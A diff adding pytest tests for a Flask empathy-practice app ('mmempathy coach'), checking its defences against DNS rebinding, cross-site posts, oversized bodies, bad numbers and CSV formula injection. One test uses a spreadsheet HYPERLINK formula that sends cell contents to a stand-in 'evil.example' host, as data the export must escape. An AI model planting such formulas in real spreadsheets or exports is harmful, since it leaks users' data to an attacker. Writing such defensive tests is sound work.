@@ -1,9 +1,11 @@
-"""mmempathy coach through Flask's test client: sessions, feedback, double submits, spaced repetition, DB errors."""
+"""mmempathy coach through Flask's test client: sessions, feedback, double submits, spaced repetition, DB errors,
+and the app's defences (foreign Host names, cross-site posts, large bodies, bad numbers, spreadsheet formulas)."""
 
 from __future__ import annotations
 
 import csv
 import io
+import os
 import sqlite3
 import threading
 
@@ -211,3 +213,177 @@ def test_cli_refuses_a_corrupt_database_and_binds_localhost_by_default(tmp_path,
     bad.write_bytes(b"garbage" * 50)
     assert main(["coach", "--db", str(bad)]) == 2
     assert "not a readable SQLite database" in capsys.readouterr().err
+
+
+# --- the coach as a web app (issue 25 part 3) and as a command (issue 26) ---------------------------------
+
+
+def cli_error(capsys) -> str:
+    """The one line a refused ``mmempathy coach`` prints (and nothing else on standard error)."""
+    err = capsys.readouterr().err
+    assert err.startswith("mmempathy: error:") and err.count("\n") == 1, err
+    return err
+
+
+def test_other_host_names_get_nothing(client, coach):
+    """DNS rebinding: a page whose own name now points at 127.0.0.1 still sends its own name as Host."""
+    start(client, name="Ana")
+    for url in ("http://localhost/", "http://127.0.0.1:8000/"):
+        assert client.get("/export.csv", base_url=url).status_code == 200
+    r = client.get("/export.csv", base_url="http://rebind.example:8000/")
+    assert r.status_code == 400 and "Ana" not in r.get_data(as_text=True)
+    assert "rebind.example" in r.get_data(as_text=True)  # the page says which name was refused
+    assert client.get("/", base_url="http://rebind.example/").status_code == 400
+    assert client.post("/people", data={"name": "Eve"}, base_url="http://rebind.example/").status_code == 400
+    assert [p["name"] for p in coach.people()] == ["Ana"]
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [{"Origin": "http://evil.example"}, {"Origin": "null"}, {"Origin": "http://localhost:9"},
+     {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}],
+)  # fmt: skip
+def test_cross_site_posts_are_refused(client, coach, headers):
+    r = client.post("/people", data={"name": "Mallory"}, headers=headers)
+    assert r.status_code == 403 and "another site" in r.get_data(as_text=True)
+    assert coach.people() == []
+
+
+def test_same_site_posts_and_scripts_pass(client, coach):
+    for headers in ({"Origin": "http://localhost"}, {"Sec-Fetch-Site": "same-origin"}, {}):
+        assert client.post("/people", data={"name": "Ana"}, headers=headers).status_code == 303
+    assert [p["name"] for p in coach.people()] == ["Ana"]
+
+
+def test_large_bodies_are_refused_before_they_are_read(client, coach):
+    from mmempathy.coach.app import MAX_BODY
+
+    pid, sid = start(client)
+    r = client.post("/people", data={"name": "x" * (MAX_BODY + 1)})
+    assert r.status_code == 413 and "too large" in r.get_data(as_text=True)
+    r = client.post(f"/api/sessions/{sid}/0/answer", data=b"{" + b" " * MAX_BODY + b"}")
+    assert r.status_code == 413 and "too large" in r.get_json()["error"]
+    assert [p["name"] for p in coach.people()] == ["Ana"]
+
+
+@pytest.mark.parametrize(
+    "method, url, body, status, needle",
+    [
+        ("get", "/p/99999999999999999999999", None, 404, ""),
+        ("get", "/p/9223372036854775808/progress", None, 404, ""),
+        ("get", "/s/1/" + "9" * 5000, None, 404, ""),
+        ("get", "/api/progress/-1", None, 404, ""),
+        ("post", "/p/{pid}/sessions", {"size": "abc"}, 400, "size must be a whole number"),
+        ("post", "/p/{pid}/sessions", {"size": "9" * 5000}, 400, "size must be a whole number"),
+        ("post", "/s/{sid}/0/answer", {"emotion": "joy", "intensity": "two"}, 400, "intensity must be a whole number"),
+        ("post", "/s/{sid}/0/answer", {"emotion": "joy", "intensity": "99999"}, 400, "intensity must be 1"),
+        ("post", "/api/sessions/{sid}/0/answer", b"not json", 400, "must be a JSON object"),
+        ("post", "/api/sessions/{sid}/0/answer", b"[1, 2]", 400, "must be a JSON object"),
+        ("post", "/api/sessions/{sid}/0/answer", b'{"emotion": "joy", "intensity": 1e999}', 400, "whole number"),
+        ("post", "/api/sessions/{sid}/0/answer", b'{"emotion": "joy", "intensity": true}', 400, "whole number"),
+    ],
+)
+def test_bad_ids_numbers_and_bodies_are_4xx_not_500(client, method, url, body, status, needle):
+    pid, sid = start(client)
+    kwargs = {"data": body} if body is not None else {}
+    r = getattr(client, method)(url.format(pid=pid, sid=sid), **kwargs)
+    assert r.status_code == status, r.get_data(as_text=True)[-300:]
+    text = r.get_json()["error"] if url.startswith("/api/") else r.get_data(as_text=True)
+    assert needle in text
+
+
+def test_export_is_safe_to_open_in_a_spreadsheet(client, coach):
+    name = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+    pid, sid = start(client, name=name)
+    item = coach.library.items[coach.session(sid)["items"][0]]
+    client.post(f"/s/{sid}/0/answer", data={"emotion": item.truth, "intensity": 2})
+    client.post(f"/s/{sid}/0/response", data={"text": "@SUM(1+1) sounds hard"})
+    (row,) = csv.DictReader(io.StringIO(client.get("/export.csv").get_data(as_text=True)))
+    assert row["person"] == "'" + name and row["response_text"] == "'@SUM(1+1) sounds hard"
+    assert row["truth"] == item.truth and row["intensity"] == "2"  # plain cells are unchanged
+    assert coach.name_of(pid) == name  # escaped in the export only, not in the database
+
+
+def test_database_failing_while_serving_is_a_503_page(client, coach):
+    pid, sid = start(client)
+    coach.db.path.unlink()
+    coach.db.path.mkdir()  # the file is gone and SQLite cannot open the path any more
+    r = client.post(f"/s/{sid}/0/answer", data={"emotion": "joy", "intensity": 2})
+    assert r.status_code == 503 and "cannot be used right now" in r.get_data(as_text=True)
+    assert client.get(f"/api/progress/{pid}").get_json()["error"].startswith("the coach database")
+
+
+def test_unusable_database_paths_are_one_line_errors(tmp_path, capsys, monkeypatch, no_model):
+    from mmempathy.cli import main
+
+    assert main(["coach", "--db", os.devnull]) == 2
+    assert "not a regular file" in cli_error(capsys)
+    assert main(["coach", "--db", str(tmp_path)]) == 2
+    assert "is a directory" in cli_error(capsys)
+    read_only, folder = tmp_path / "ro.db", tmp_path / "ro"
+    Database(read_only)
+    read_only.chmod(0o444)
+    folder.mkdir(mode=0o555)
+    if os.geteuid() == 0:  # root writes through permissions: make os.access answer as it does for anyone else
+        real_access = os.access
+        monkeypatch.setattr(os, "access", lambda p, mode: not mode & os.W_OK and real_access(p, mode))
+    assert main(["coach", "--db", str(read_only)]) == 2
+    assert "read-only" in cli_error(capsys)
+    assert main(["coach", "--db", str(folder / "new.db")]) == 2
+    assert "the folder" in cli_error(capsys) and not (folder / "new.db").exists()
+
+
+@pytest.mark.parametrize("port", ["99999", "-1", "65536"])
+def test_port_out_of_range_is_refused_before_anything_starts(tmp_path, capsys, no_model, port):
+    from mmempathy.cli import main
+
+    assert main(["coach", "--db", str(tmp_path / "c.db"), "--port", port]) == 2
+    assert "1 to 65535" in cli_error(capsys)
+    assert not (tmp_path / "c.db").exists()
+
+
+def test_missing_flask_names_the_extra_before_the_model_loads(tmp_path, capsys, monkeypatch, no_model):
+    import sys
+
+    from mmempathy.cli import main
+
+    monkeypatch.setitem(sys.modules, "flask", None)  # import flask now fails as it does without the extra
+    assert main(["coach", "--db", str(tmp_path / "c.db"), "--clips", str(tmp_path)]) == 2
+    assert "pip install 'mmempathy[coach]'" in cli_error(capsys)
+    assert not (tmp_path / "c.db").exists()
+
+
+def test_failed_starts_leave_no_database_behind(tmp_path, capsys, no_model):
+    import socket
+
+    from mmempathy.cli import main
+
+    db, nothing = tmp_path / "coach.db", ["--no-demo", "--data-dir", str(tmp_path / "no-data")]
+    assert main(["coach", "--db", str(db), *nothing]) == 2
+    assert "no practice items (data folder" in cli_error(capsys) and not db.exists()
+    with socket.socket() as taken:
+        taken.bind(("127.0.0.1", 0))
+        taken.listen()
+        assert main(["coach", "--db", str(db), "--port", str(taken.getsockname()[1])]) == 2
+    assert "Address already in use" in cli_error(capsys) and not db.exists()
+    Database(db)  # a database that was there before a failed start stays
+    assert main(["coach", "--db", str(db), *nothing]) == 2
+    assert db.is_file()
+
+
+def test_failed_model_load_removes_the_new_database(tmp_path, capsys):
+    from mmempathy.cli import main
+
+    db = tmp_path / "coach.db"
+    assert main(["coach", "--db", str(db), "--port", "0", "--model", str(tmp_path / "no-such-model")]) == 2
+    assert "no-such-model" in cli_error(capsys) and not db.exists()
+
+
+def test_trusted_hosts_follow_the_bound_address():
+    from mmempathy.coach.app import address, trusted_hosts
+
+    assert trusted_hosts("127.0.0.1") == ["localhost", "127.0.0.1", "127.0.0.1"]
+    assert trusted_hosts("192.168.1.5", ["coach.lan"]) == ["localhost", "127.0.0.1", "192.168.1.5", "coach.lan"]
+    assert trusted_hosts("0.0.0.0") is None  # every interface, no name given: reachable by anyone anyway
+    assert trusted_hosts("0.0.0.0", ["coach.lan"]) == ["localhost", "127.0.0.1", "coach.lan"]
+    assert address("0.0.0.0", 8000) == "http://127.0.0.1:8000/" and address("::1", 8) == "http://localhost:8/"
